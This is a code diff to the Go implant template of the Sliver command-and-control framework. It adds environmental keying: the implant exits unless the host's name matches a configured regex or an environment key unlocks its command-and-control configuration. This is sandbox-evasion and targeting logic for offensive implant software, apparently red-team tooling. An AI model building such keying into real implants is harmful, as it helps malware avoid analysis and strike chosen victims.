@@ -32,7 +32,7 @@ import (
 	"os/user"
 	// {{end}}
 
-	// {{if .Config.LimitLocale}}
+	// {{if or .Config.LimitLocale .Config.KeyHostname}}
 	"regexp"
 	// {{end}}
 
@@ -44,6 +44,10 @@ import (
 	"strings"
 	// {{else}}{{end}}
 
+	// {{if .Config.EnvKeyed}}
+	"github.com/bishopfox/sliver/implant/sliver/envkey"
+	// {{end}}
+
 	// {{if .Config.LimitLocale}}
 	"github.com/bishopfox/sliver/implant/sliver/locale"
 	// {{end}}
@@ -128,6 +132,25 @@ func ExecLimits() {
 	}
 	// {{end}}
 
+	// {{if .Config.KeyHostname}}
+	keyHostname, _ := os.Hostname()
+	if match, _ := regexp.MatchString(`(?i){{.Config.KeyHostname}}`, keyHostname); !match {
+		// {{if .Config.Debug}}
+		log.Printf("Hostname %#v does not match the key regexp", keyHostname)
+		// {{end}}
+		os.Exit(1)
+	}
+	// {{end}}
+
+	// {{if .Config.EnvKeyed}}
+	if !envkey.Unlock() {
+		// {{if .Config.Debug}}
+		log.Printf("Environment key did not unlock the c2s")
+		// {{end}}
+		os.Exit(1)
+	}
+	// {{end}}
+
 	// {{if .Config.Debug}}
 	log.Printf("Limit checks completed")
 	// {{end}}